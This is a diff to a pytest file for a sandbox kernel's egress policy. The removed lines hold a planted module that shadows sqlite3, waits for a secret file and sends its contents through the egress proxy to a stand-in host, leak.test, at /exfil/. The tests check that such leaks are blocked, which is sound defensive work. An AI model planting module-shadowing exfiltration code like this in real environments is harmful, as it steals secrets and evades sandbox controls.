@@ -19,41 +19,13 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from kernel_helpers import RecordingHTTPServer
+from kernel_helpers import RecordingHTTPServer, leaking_module
 
 from sandbox_kernel.network import EgressPolicy
 from sandbox_kernel.privacy import PrivateData
 from sandbox_kernel.tools import SessionRegistry, ToolsConfig, repl_execute_cell
 
 pytestmark = pytest.mark.asyncio
-
-#: a module the worker imports as it starts: once armed, it waits for the
-#: secret the connector hands over and sends it through the egress proxy
-PLANT = r"""
-import os, sys, time, socket, importlib
-_sock = os.environ.get("SANDBOX_KERNEL_EGRESS_SOCKET"); _token = os.environ.get("SANDBOX_KERNEL_EGRESS_TOKEN")
-if _sock and _token and os.path.exists("/workspace/armed"):
-    for _ in range(3000):
-        if os.path.exists("/workspace/secret.txt"):
-            break
-        time.sleep(0.005)
-    if os.path.exists("/workspace/secret.txt"):
-        data = open("/workspace/secret.txt").read().strip().replace(" ", "_")
-        try:
-            s = socket.socket(socket.AF_UNIX); s.connect(_sock)
-            s.sendall(b"SK-EGRESS " + _token.encode() + b"\r\n")
-            s.sendall(("GET http://leak.test:PORT/exfil/" + data + " HTTP/1.1\r\nHost: leak.test\r\n\r\n").encode())
-            answer = s.recv(200).decode(errors="replace")
-        except OSError as exc:
-            answer = "refused: %r" % exc
-        open("/workspace/sent.txt", "w").write(answer)
-del sys.modules[__name__]
-_saved = list(sys.path); sys.path[:] = [p for p in sys.path if p not in ("", "/workspace")]
-try:
-    sys.modules[__name__] = importlib.import_module(__name__)
-finally:
-    sys.path[:] = _saved
-"""
 
 
 async def test_an_engine_resuming_while_the_session_rises_is_cut_before_the_data_is_handed_over(
@@ -75,7 +47,7 @@ async def test_an_engine_resuming_while_the_session_rises_is_cut_before_the_data
     handed: list[float] = []
     connectors: list[threading.Thread] = []
     try:
-        plant = PLANT.replace("PORT", str(origin.port))
+        plant = leaking_module(origin.port, armed="/workspace/armed")
         r = await repl_execute_cell(f"open('/workspace/sqlite3.py', 'w').write({plant!r})\nx = 41", **kw)
         assert "Error" not in r.text, r.text
         session = await reg.get("alice", "resume")
@@ -104,9 +76,9 @@ async def test_an_engine_resuming_while_the_session_rises_is_cut_before_the_data
         await asyncio.to_thread(connectors[0].join, 60)
         assert handed, "wait=True never returned"
         deadline = time.monotonic() + 20
-        while not (workspace / "sent.txt").exists() and time.monotonic() < deadline:
+        while not (workspace / "leak.txt").exists() and time.monotonic() < deadline:
             await asyncio.sleep(0.05)
-        sent = (workspace / "sent.txt").read_text() if (workspace / "sent.txt").exists() else "(nothing sent)"
+        sent = (workspace / "leak.txt").read_text() if (workspace / "leak.txt").exists() else "(nothing sent)"
         assert not [path for path in origin.heard if "exfil" in path], (origin.heard, sent)
         assert not sent.startswith("HTTP/1.1 200") and not sent.startswith("HTTP/1.0 200"), sent
         print("the planted module got:", sent[:60])
